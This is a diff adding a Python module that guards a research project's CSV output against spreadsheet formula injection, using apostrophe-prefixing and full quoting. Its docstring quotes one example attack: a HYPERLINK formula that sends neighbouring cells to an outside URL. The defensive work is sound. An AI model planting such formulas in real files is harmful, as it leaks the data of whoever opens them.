@@ -1,0 +1,69 @@
+"""CSV cells that a spreadsheet shows as text, never runs as a formula.
+
+A spreadsheet opening a CSV file evaluates a cell that begins with ``=``, ``+``, ``-`` or
+``@`` as a formula (and some strip a leading tab or carriage return first), so a participant's
+comment ``=HYPERLINK("http://example.org/?leak="&B2,"x")`` would send the neighbouring cells
+to another server from the researcher's machine. OWASP's remedy for CSV injection is applied
+to every cell of every CSV file the project writes, the header row included: such a cell gets a
+leading apostrophe, which spreadsheets take as "this is text" and do not display, and every
+cell is wrapped in double quotes (quotes inside doubled, as CSV has it). Quoting every cell
+also keeps a carriage return inside a cell: with a ``\n`` line terminator the ``csv`` module
+would otherwise leave it bare, and a reader would end the row there.
+
+Two choices keep the files useful:
+
+- A cell that is a plain number (``-3``, ``+0.5``, ``1e-9``) is left alone: it cannot be a
+  formula, and a spreadsheet must still read it as a number.
+- A cell that already begins with an apostrophe gets one more, so that the rule can be undone
+  exactly: remove one leading apostrophe from every cell that has one (``original_cell``).
+
+Every CSV writer calls ``writer`` (or ``neutralised_cell``); JSON Lines and Parquet files are
+never touched, they stay exact.
+"""
+
+import csv
+import re
+from collections.abc import Iterable
+from typing import IO, Any
+
+# What a spreadsheet may take as the start of a formula (OWASP "CSV Injection").
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+TEXT_MARK = "'"
+PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
+
+
+def neutralised_cell(value: str) -> str:
+    """``value`` as a CSV cell that no spreadsheet evaluates."""
+    if not value.startswith((*FORMULA_STARTS, TEXT_MARK)):
+        return value
+    if PLAIN_NUMBER.fullmatch(value):
+        return value
+    return TEXT_MARK + value
+
+
+def original_cell(cell: str) -> str:
+    """The value ``neutralised_cell`` was given: one leading apostrophe removed."""
+    return cell[1:] if cell.startswith(TEXT_MARK) else cell
+
+
+class SafeWriter:
+    """``csv.writer`` with every cell neutralised and quoted; cells that are not text are
+    written as ``csv.writer`` writes them (``None`` as an empty cell, numbers as numbers)."""
+
+    def __init__(self, file: IO[str], **options: Any) -> None:
+        self._writer = csv.writer(file, **{**options, "quoting": csv.QUOTE_ALL})
+
+    def writerow(self, row: Iterable[Any]) -> None:
+        self._writer.writerow(_cells(row))
+
+    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
+        self._writer.writerows(_cells(row) for row in rows)
+
+
+def _cells(row: Iterable[Any]) -> list[Any]:
+    return [neutralised_cell(value) if isinstance(value, str) else value for value in row]
+
+
+def writer(file: IO[str], **options: Any) -> SafeWriter:
+    """A CSV writer for ``file`` (options as ``csv.writer``'s) that neutralises every cell."""
+    return SafeWriter(file, **options)
